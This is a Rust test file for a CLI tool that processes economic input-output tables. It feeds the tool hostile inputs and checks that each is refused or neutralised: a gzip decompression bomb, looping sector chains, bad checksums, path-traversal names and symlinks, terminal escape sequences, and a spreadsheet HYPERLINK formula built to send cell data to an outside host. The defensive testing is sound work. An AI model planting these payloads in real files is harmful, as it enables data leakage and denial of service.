//! Files made to do harm: damaged containers, bombs, devices, labels for terminals, tables that do not fit. Each test makes
//! its own file; the command must refuse it in words, at once, without a crash.

use std::path::PathBuf;
use std::time::Duration;

use assert_cmd::Command;
use tempfile::TempDir;

use crate::readers::zip_of;

fn isard() -> Command {
    let mut command = Command::cargo_bin("isard").unwrap();
    command.timeout(Duration::from_secs(60)).env_remove("ISARD_MEMORY");
    command
}

/// Runs, expects exit code 2, every word on standard error, no panic, and nothing on standard output.
fn refused(command: &mut Command, words: &[&str]) -> String {
    let run = command.assert().code(2);
    let error = String::from_utf8_lossy(&run.get_output().stderr).into_owned();
    assert!(run.get_output().stdout.is_empty() && error.contains("error: ") && !error.contains("panicked"), "{error}");
    for word in words {
        assert!(error.contains(word), "\"{word}\" is not in:\n{error}");
    }
    error
}

fn put(folder: &TempDir, name: &str, bytes: &[u8]) -> PathBuf {
    let path = folder.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn npy(descr: &str, shape: &str, data: &[u8]) -> Vec<u8> {
    let header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': ({shape}), }}\n");
    [b"\x93NUMPY\x01\x00", (header.len() as u16).to_le_bytes().as_slice(), header.as_bytes(), data].concat()
}

fn numbers(shape: &str, values: &[f64]) -> Vec<u8> {
    npy("<f8", shape, &values.iter().flat_map(|v| v.to_le_bytes()).collect::<Vec<u8>>())
}

fn texts(list: &[&str]) -> Vec<u8> {
    let width = list.iter().map(|t| t.chars().count()).max().unwrap();
    let letter = |text: &str, k: usize| text.chars().nth(k).map_or(0, u32::from).to_le_bytes();
    let data: Vec<u8> = list.iter().flat_map(|t| (0..width).flat_map(move |k| letter(t, k))).collect();
    npy(&format!("<U{width}"), &format!("{},", list.len()), &data)
}

/// An archive of two regions of one sector, x = 10 each.
fn members(regions: &[&str; 2]) -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("Z", numbers("2, 2", &[1.0, 2.0, 3.0, 1.0])),
        ("Y", numbers("2, 2", &[4.0, 3.0, 1.0, 5.0])),
        ("x", numbers("2,", &[10.0, 10.0])),
        ("emissions", numbers("2,", &[5.0, 7.0])),
        ("emissions_unit", texts(&["Mt"])),
        ("regions", texts(regions)),
        ("sectors", texts(&["all"])),
        ("unit", texts(&["10^4 yuan"])),
    ]
}

fn archive(members: &[(&str, Vec<u8>)]) -> Vec<u8> {
    zip_of(members.iter().map(|(name, bytes)| (format!("{name}.npy"), bytes.as_slice())))
}

fn small(folder: &TempDir) -> PathBuf {
    put(folder, "t.npz", &archive(&members(&["North", "South"])))
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut out, bytes).unwrap();
    out.finish().unwrap()
}

#[test]
fn a_nested_header_of_an_array_is_refused_at_once() {
    let folder = tempfile::tempdir().unwrap();
    let table = small(&folder);
    for value in ["[".repeat(40), "{'a':".repeat(40)] {
        let header = format!("{{'descr': {value}'<f8', 'fortran_order': False, 'shape': (2, 1), }}\n");
        let raw = [b"\x93NUMPY\x01\x00", (header.len() as u16).to_le_bytes().as_slice(), header.as_bytes(), &[0; 16]].concat();
        let demand = put(&folder, "nested.npy", &raw);
        refused(isard().arg("solve").arg(&table).arg("--demand").arg(&demand), &["nested.npy", "header"]);
        let mut spoiled = members(&["North", "South"]);
        spoiled[0].1 = raw;
        let path = put(&folder, "nested.npz", &archive(&spoiled));
        refused(isard().arg("flows").arg(&path), &["nested.npz[Z]", "header"]);
    }
}

#[test]
fn whole_numbers_that_would_be_rounded_are_refused() {
    let folder = tempfile::tempdir().unwrap();
    let mut spoiled = members(&["North", "South"]);
    spoiled[3].1 = npy("<i8", "2,", &[5i64.to_le_bytes(), 9_007_199_254_740_993i64.to_le_bytes()].concat());
    let path = put(&folder, "t.npz", &archive(&spoiled));
    refused(isard().arg("flows").arg(&path), &["t.npz[emissions]", "9007199254740993", "9007199254740992"]);
}

/// A compound file whose workbook has 8 sectors of zeros; the directory is its own next sector where `cycle` says so.
fn compound(cycle: bool) -> Vec<u8> {
    let mut raw = vec![0u8; 512 * 11];
    raw[..8].copy_from_slice(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1");
    let mut put = |at: usize, value: u32| raw[at..at + 4].copy_from_slice(&value.to_le_bytes());
    put(26, 0xfffe_0003);
    put(30, 0x0006_0009);
    put(44, 1);
    put(48, 1);
    put(60, 0xffff_fffe);
    put(68, 0xffff_fffe);
    (0..109).for_each(|k| put(76 + 4 * k, if k == 0 { 0 } else { u32::MAX }));
    (0..128).for_each(|k| put(512 + 4 * k, u32::MAX));
    put(512, 0xffff_fffd);
    put(516, if cycle { 1 } else { 0xffff_fffe });
    (2..10).for_each(|k| put(512 + 4 * k, if k == 9 { 0xffff_fffe } else { k as u32 + 1 }));
    put(1024 + 116, 0xffff_fffe);
    put(1024 + 244, 2);
    put(1024 + 248, 4096);
    raw[1024 + 66] = 5;
    raw[1024 + 194] = 2;
    for (k, letter) in "Workbook".bytes().enumerate() {
        raw[1024 + 128 + 2 * k] = letter;
    }
    raw
}

#[test]
fn a_chain_of_sectors_that_leads_to_itself_is_a_damaged_workbook() {
    let folder = tempfile::tempdir().unwrap();
    let path = put(&folder, "cycle.xls", &compound(true));
    refused(isard().arg("audit").arg(&path), &["cycle.xls", "damaged", "leads back to itself"]);
    // without the cycle it is no workbook either, but for another reason
    let path = put(&folder, "plain.xls", &compound(false));
    let error = refused(isard().arg("audit").arg(&path), &["plain.xls"]);
    assert!(!error.contains("leads back"), "{error}");
}

/// Changes the checksum of a member of a zip file, in its own head and in the directory at the end.
fn with_wrong_checksum(mut zip: Vec<u8>, name: &str) -> Vec<u8> {
    let mut changed = 0;
    for at in 0..zip.len() - 46 {
        let (mark, checksum, length, start) = match &zip[at..at + 4] {
            b"PK\x03\x04" => (30, at + 14, at + 26, at + 30),
            b"PK\x01\x02" => (46, at + 16, at + 28, at + 46),
            _ => continue,
        };
        let length = usize::from(u16::from_le_bytes([zip[length], zip[length + 1]]));
        if at + mark + length <= zip.len() && &zip[start..start + length] == name.as_bytes() {
            zip[checksum] ^= 1;
            changed += 1;
        }
    }
    assert_eq!(changed, 2, "{name} has a head and a line in the directory");
    zip
}

#[test]
fn a_workbook_with_a_wrong_checksum_is_damaged_whatever_is_read_of_it() {
    let folder = tempfile::tempdir().unwrap();
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().set_name("Notes").unwrap().write(0, 0, "no table").unwrap();
    let sound = book.save_to_buffer().unwrap();
    refused(isard().arg("audit").arg(put(&folder, "sound.xlsx", &sound)), &["none of its sheets"]);
    for member in ["xl/worksheets/sheet1.xml", "docProps/app.xml"] {
        for name in ["damaged.xlsx", "damaged.xlsb"] {
            let path = put(&folder, name, &with_wrong_checksum(sound.clone(), member));
            refused(isard().arg("audit").arg(&path), &[member, "damaged", "checksum"]);
        }
    }
    let npz = archive(&members(&["North", "South"]));
    let path = put(&folder, "damaged.npz", &with_wrong_checksum(npz, "Y.npy"));
    refused(isard().arg("flows").arg(&path), &["damaged.npz[Y]", "damaged"]);
}

#[test]
fn what_unpacks_to_more_than_is_allowed_is_refused_with_both_numbers() {
    let folder = tempfile::tempdir().unwrap();
    let table = small(&folder);
    let bomb = put(&folder, "co2.csv.gz", &gz(&vec![b'0'; 50_000_000]));
    let words = ["bytes or more once it is unpacked", "at most 1000000 (1.0 MB)", "--max-size"];
    refused(isard().arg("flows").arg(&table).arg("--emissions").arg(&bomb).args(["--max-size", "1MB"]), &words);
    let mut wide = members(&["North", "South"]);
    wide[0].1 = npy("|u1", "1, 50000000", &vec![0; 50_000_000]);
    let path = put(&folder, "wide.npz", &archive(&wide));
    refused(isard().arg("flows").arg(&path).args(["--max-size", "1MB"]), &words);
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    (0..20_000).for_each(|row| {
        sheet.write(row, 0, 0.0).unwrap();
    });
    let path = put(&folder, "long.xlsx", &book.save_to_buffer().unwrap());
    refused(isard().arg("audit").arg(&path).args(["--max-size", "100kB"]), &["bytes or more once it is unpacked", "100000"]);
    refused(isard().arg("audit").arg(&path).env("ISARD_MEMORY", "1MB"), &["half of the available memory", "--max-size"]);
    for wrong in ["0", "-1", "many", "1 XB"] {
        refused(isard().arg("flows").arg(&table).arg(format!("--max-size={wrong}")), &["--max-size", "GiB"]);
    }
    isard().arg("flows").arg(&table).args(["--max-size", "1 MiB"]).assert().success();
}

#[cfg(unix)]
#[test]
fn devices_are_no_files_and_pipes_only_feed_formats_that_are_read_in_order() {
    let folder = tempfile::tempdir().unwrap();
    let table = small(&folder);
    let flows = || {
        let mut command = isard();
        command.arg("flows").arg(&table);
        command
    };
    refused(flows().args(["--emissions", "/dev/zero"]), &["/dev/zero"]);
    refused(flows().args(["--population", "/dev/zero"]), &["/dev/zero", "device"]);
    refused(isard().args(["run", "/dev/zero"]), &["/dev/zero", "device"]);
    refused(isard().args(["flows", "/dev/zero"]), &["/dev/zero"]);
    refused(isard().args(["flows", "-"]), &["standard input"]);
    for name in ["p.npz", "p.isard", "p.xlsx", "p.zip"] {
        let pipe = folder.path().join(name);
        assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        refused(isard().arg("flows").arg(&pipe), &[name, "plain file only"]); // nobody writes to it, and nothing waits
    }
    let people = "region,population\nNorth,10\nSouth,20\n";
    let run = flows().args(["--population", "-", "--json"]).write_stdin(people).assert().success();
    let plain = flows().arg("--population").arg(put(&folder, "people.csv", people.as_bytes())).arg("--json").assert().success();
    let per_head = |bytes: &[u8]| serde_json::from_slice::<serde_json::Value>(bytes).unwrap()["flow"].clone();
    assert_eq!(per_head(&run.get_output().stdout), per_head(&plain.get_output().stdout));
    refused(flows().args(["--population", "-"]).write_stdin(""), &["standard input", "empty"]);
    let inventory = "region,sector,value\nNorth,all,5\nSouth,all,7\n";
    let run = flows().args(["--emissions", "-", "--emissions-unit", "Mt", "--json"]).write_stdin(inventory).assert().success();
    assert_eq!(per_head(&run.get_output().stdout), per_head(&plain.get_output().stdout), "the emissions of the archive");
    isard().args(["run", "-"]).write_stdin(format!("table = {:?}\n", table.display().to_string())).assert().success();
}

#[test]
fn no_file_that_a_folder_names_lies_outside_it() {
    let folder = tempfile::tempdir().unwrap();
    let inner = folder.path().join("system");
    std::fs::create_dir(&inner).unwrap();
    let secret = put(&folder, "secret.txt", b"region\tA\nsector\ta\nregion\tsector\nA\ta\t1\n");
    let named = |name: &str| {
        let entry = |file: &str, header: u8| serde_json::json!({"name": file, "nr_index_col": "2", "nr_header": header.to_string()});
        let all = serde_json::json!({"systemtype": "IOSystem", "files": {"Z": entry(name, 2), "Y": entry("Y.txt", 2)}});
        std::fs::write(inner.join("file_parameters.json"), all.to_string()).unwrap();
        refused(isard().arg("audit").arg(&inner), &["leads out of the folder"]);
    };
    named("../secret.txt");
    named(secret.to_str().unwrap());
    named("a/../../secret.txt");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&secret, inner.join("link.txt")).unwrap();
        named("link.txt");
    }
}

/// What acts on a terminal: control characters but line breaks, and marks of direction.
fn acts(text: &str) -> bool {
    text.chars().any(|c| c != '\n' && (c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)))
}

#[test]
fn labels_are_escaped_on_terminals_and_quoted_in_files() {
    let folder = tempfile::tempdir().unwrap();
    let odd = ["A\r\nFAKE LINE: CERTIFIED", "\u{202e}B =\"1,2\""];
    let path = put(&folder, "odd.npz", &archive(&members(&odd)));
    for command in ["flows", "responsibility", "audit", "linkages", "accounts", "decompose"] {
        let run = isard().arg(command).arg(&path).args(if command == "decompose" { &["--scheme", "routes"][..] } else { &[] }).assert();
        let (out, err) = (String::from_utf8_lossy(&run.get_output().stdout), String::from_utf8_lossy(&run.get_output().stderr));
        assert!(!acts(&out) && !acts(&err), "{command}: {out}{err}");
        assert!(!out.lines().chain(err.lines()).any(|l| l.trim_start().starts_with("FAKE")), "{command}: {out}{err}");
    }
    let out = folder.path().join("res");
    isard().arg("flows").arg(&path).arg("--output").arg(&out).assert().success();
    let mut reader = csv::Reader::from_path(out.join("flows.csv")).unwrap();
    assert_eq!(reader.headers().unwrap().iter().skip(1).take(2).collect::<Vec<_>>(), [odd[0], odd[1]]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect(); // an uneven row is an error
    assert_eq!(rows.iter().map(|r| r[0].to_string()).collect::<Vec<_>>(), [odd[0], odd[1]]);
    let json = isard().arg("flows").arg(&path).arg("--json").assert().success();
    let told: serde_json::Value = serde_json::from_slice(&json.get_output().stdout).unwrap();
    assert_eq!(told["regions"][1], odd[1], "JSON keeps the label");
    // a message, and a path in it
    let named = folder.path().join("no\u{1b}[2Jfile.npz");
    let error = refused(isard().arg("flows").arg(&named), &["\\u001b[2J"]);
    assert!(!acts(&error));
    let usage = refused(isard().arg("flows").arg("--threads").arg("\u{1b}[2J\u{202e}"), &["--threads"]);
    assert!(!acts(&usage));
}

#[test]
fn labels_with_control_characters_are_refused_with_their_place() {
    let folder = tempfile::tempdir().unwrap();
    let path = put(&folder, "escape.npz", &archive(&members(&["\u{1b}]0;title\u{7}", "South"])));
    let error = refused(isard().arg("flows").arg(&path), &["escape.npz[regions], element 0", "U+001B"]);
    assert!(!acts(&error));
    let people = put(&folder, "people.csv", "region,population\nNor\u{8}th,1\n".as_bytes());
    refused(isard().arg("flows").arg(small(&folder)).arg("--population").arg(&people), &["people.csv:2:4", "U+0008"]);
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().write(2, 1, "a\u{85}b").unwrap();
    let path = put(&folder, "escape.xlsx", &book.save_to_buffer().unwrap());
    refused(isard().arg("audit").arg(&path), &["!B3", "U+0085"]);
}

#[test]
fn formulas_in_labels_get_an_apostrophe_where_it_is_asked_for() {
    let folder = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"http://x/?\"&A1,\"y\")";
    let path = put(&folder, "formula.npz", &archive(&members(&[formula, "-1"])));
    let first = |name: &str, more: &[&str]| {
        let out = folder.path().join(name);
        isard().arg("flows").arg(&path).args(more).arg("--output").arg(&out).assert().success();
        let mut reader = csv::Reader::from_path(out.join("flows.csv")).unwrap();
        let names: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
        names
    };
    assert_eq!(first("plain", &[]), [formula, "-1"]);
    assert_eq!(first("safe", &["--csv-safe"]), [format!("'{formula}"), "-1".into()]);
}

#[test]
fn what_does_not_fit_is_refused_by_every_command_before_it_is_allocated() {
    let folder = tempfile::tempdir().unwrap();
    let wide = folder.path().join("wide.isard");
    isard().args(["synth", "--regions", "1", "--sectors", "20000", "--per-column", "5", "-o"]).arg(&wide).assert().success();
    for more in [&["flows"][..], &["decompose", "--scheme", "routes"], &["run", "--table"], &["compensate", "--price", "1"]] {
        let mut command = isard();
        command.args(more).arg(&wide).env("ISARD_MEMORY", "1 GB");
        refused(&mut command, &["20000 rows", "memory", "3.", "GB", "are available"]); // a block of 20,000 x 20,000
    }
    // the system counts where the table alone would fit
    refused(isard().arg("detect").arg(&wide).env("ISARD_MEMORY", "6 MB"), &["20000 rows", "memory", "are available"]);
    refused(isard().arg("structural").args([&wide, &wide]).env("ISARD_MEMORY", "6 MB"), &["20000 rows", "memory", "are available"]);
    let many = folder.path().join("many.isard");
    isard().args(["synth", "--regions", "400", "--sectors", "1", "--per-column", "5", "-o"]).arg(&many).assert().success();
    let mut command = isard();
    command.arg("solve").arg(&many).args(["--operator", "trade-share"]).env("ISARD_MEMORY", "2 MB");
    refused(&mut command, &["the system of 400 rows", "memory", "are available"]);
    let table = folder.path().join("small");
    isard().args(["synth", "--regions", "2", "--sectors", "3", "-o"]).arg(&table).assert().success();
    for command in ["flows", "audit", "linkages", "accounts", "responsibility", "detect", "solve", "bench"] {
        refused(isard().arg(command).arg(&table).env("ISARD_MEMORY", "1"), &["memory"]);
    }
    refused(isard().arg("run").env("ISARD_MEMORY", "1"), &["memory"]);
    for wrong in ["abc", "-5", "0", "1 XB", ""] {
        refused(isard().arg("flows").arg(&table).env("ISARD_MEMORY", wrong), &["ISARD_MEMORY", "GiB"]);
    }
    for right in ["1GB", "1.5 GiB", "900000000", "900 mb"] {
        isard().arg("flows").arg(&table).env("ISARD_MEMORY", right).assert().success();
    }
}

#[test]
fn options_without_sense_are_refused() {
    let folder = tempfile::tempdir().unwrap();
    let table = small(&folder);
    for (option, word) in [
        ("--threads=5000", "at most"),
        ("--floor=inf", "between 0 and 1"),
        ("--floor=1e300", "between 0 and 1"),
        ("--tolerance=inf", "between 0 and 1"),
        ("--tolerance=nan", "between 0 and 1"),
    ] {
        refused(isard().arg("flows").arg(&table).arg(option), &[option.split('=').next().unwrap(), word]);
    }
    for price in ["-5", "inf", "nan"] {
        let mut command = isard();
        command.arg("compensate").arg(&table).args(["--price", "10", "--price-rule", "ets"]).arg(format!("--ets-price={price}"));
        refused(&mut command, &["market price", "not negative"]);
    }
    let error = refused(isard().arg("run").arg(&table), &["is a table", "isard run --table"]);
    assert!(!error.contains("UTF-8"), "{error}");
}

#[test]
fn what_stopped_a_solve_is_told_once_in_words_and_every_stressor_is_named() {
    let folder = tempfile::tempdir().unwrap();
    let mut two = members(&["North", "South"]);
    two[3].1 = numbers("2, 2", &[5.0, 7.0, 1.0, 2.0]);
    let path = put(&folder, "two.npz", &archive(&two));
    let run = isard().arg("flows").arg(&path).assert().success();
    let text = String::from_utf8_lossy(&run.get_output().stdout).into_owned();
    assert!(text.contains("Emissions of emissions 1 by origin") && text.contains("Emissions of emissions 2 by origin"), "{text}");
    let table = folder.path().join("t.isard");
    isard().args(["synth", "--regions", "3", "--sectors", "20", "-o"]).arg(&table).assert().success();
    let run = isard().arg("flows").arg(&table).args(["--method", "power-series", "--max-iter", "1"]).assert().code(1);
    let (out, err) = (String::from_utf8_lossy(&run.get_output().stdout), String::from_utf8_lossy(&run.get_output().stderr));
    assert!(out.contains("t.isard: 3 regions") && !out.contains("Settings {") && !out.contains("MaxIter"), "{out}");
    let told = |text: &str| text.lines().filter(|l| l.starts_with("UNCERTIFIED")).count();
    assert_eq!((told(&out), told(&err)), (1, 0), "{out}{err}");
    assert!(out.contains("--max-iter"), "{out}");
    let solve = || {
        let mut command = isard();
        command.arg("solve").arg(&table).args(["--method", "power-series", "--max-iter", "1"]);
        command
    };
    solve().arg("--quiet").assert().code(1).stdout("");
    let run = solve().assert().code(1);
    let text = String::from_utf8_lossy(&run.get_output().stdout).into_owned();
    assert!(text.contains("UNCERTIFIED: the limit of passes (--max-iter)") && text.contains(" in 1 passes"), "{text}");
    let bench = isard().arg("bench").arg(&table).args(["--tolerance", "1e-3"]).assert().code(2);
    assert!(String::from_utf8_lossy(&bench.get_output().stderr).contains("unexpected argument '--tolerance'"));
}

#[test]
fn the_unit_of_an_object_is_that_of_its_flows() {
    let folder = tempfile::tempdir().unwrap();
    let table = small(&folder);
    let run = isard().arg("compensate").arg(&table).args(["--price", "10", "--json"]).assert().success();
    let told: serde_json::Value = serde_json::from_slice(&run.get_output().stdout).unwrap();
    assert_eq!((told["unit"].as_str(), told["payments_unit"].as_str()), (Some("Mt"), Some("10^8 yuan")));
}

#[cfg(target_os = "linux")]
#[test]
fn a_snapshot_that_is_shortened_while_it_is_read_does_no_harm() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.isard");
    isard().args(["synth", "--regions", "3", "--sectors", "4", "-o"]).arg(&path).assert().success();
    let open = isard::snapshot::open(&path).unwrap();
    std::fs::OpenOptions::new().write(true).open(&path).unwrap().set_len(100).unwrap();
    assert_eq!(open.table().unwrap().dim(), 12, "a small file is copied when it is opened");
    refused(isard().arg("flows").arg(&path), &["t.isard"]);
}

#[test]
fn damaged_workbooks_and_archives_never_panic_in_print() {
    let folder = tempfile::tempdir().unwrap();
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().set_name("Notes").unwrap().write(0, 0, "no table").unwrap();
    let sound = book.save_to_buffer().unwrap();
    let (xls, npz) = (compound(false), archive(&members(&["North", "South"])));
    for (name, bytes) in [("a.xlsx", &sound), ("a.xls", &xls), ("a.npz", &npz), ("a.xlsb", &sound)] {
        for step in 1..9 {
            let mut cut = bytes.clone();
            let at = cut.len() * step / 9;
            if step % 2 == 0 {
                cut.truncate(at)
            } else {
                cut[at] ^= 0xff
            }
            let run = isard().arg("audit").arg(put(&folder, name, &cut)).output().unwrap();
            let error = String::from_utf8_lossy(&run.stderr).into_owned();
            assert!(matches!(run.status.code(), Some(0..=2)) && !error.contains("panicked"), "{name} {step}: {error}");
        }
    }
}
